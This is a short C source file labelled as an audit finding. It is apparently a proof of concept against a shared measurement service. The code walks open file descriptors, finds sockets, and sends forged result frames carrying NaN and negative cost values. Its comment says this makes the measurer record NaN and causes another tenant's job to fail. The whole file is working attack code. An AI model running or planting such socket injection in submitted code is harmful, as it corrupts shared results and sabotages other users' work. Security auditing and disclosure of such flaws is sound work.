/* Finding 1: forges results whose cost is not a number, then negative, on every socket it finds: a
   measurer that believes them records NaN (another tenant's job then ends FAILED). Returns 0. */
#include <math.h>
#include <stdint.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

int32_t entry(void* const* args) {
  (void)args;
  double costs[2] = {NAN, -1.0};
  for (int fd = 3; fd < 64; ++fd) {
    struct stat st;
    if (fstat(fd, &st) != 0 || !S_ISSOCK(st.st_mode)) continue;
    for (int i = 0; i < 10; ++i) {
      unsigned char frame[14] = {10, 0, 0, 0, 0x0a, 8};
      memcpy(frame + 6, &costs[i % 2], sizeof(double));
      send(fd, frame, sizeof frame, MSG_NOSIGNAL | MSG_DONTWAIT);
    }
  }
  return 0;
}
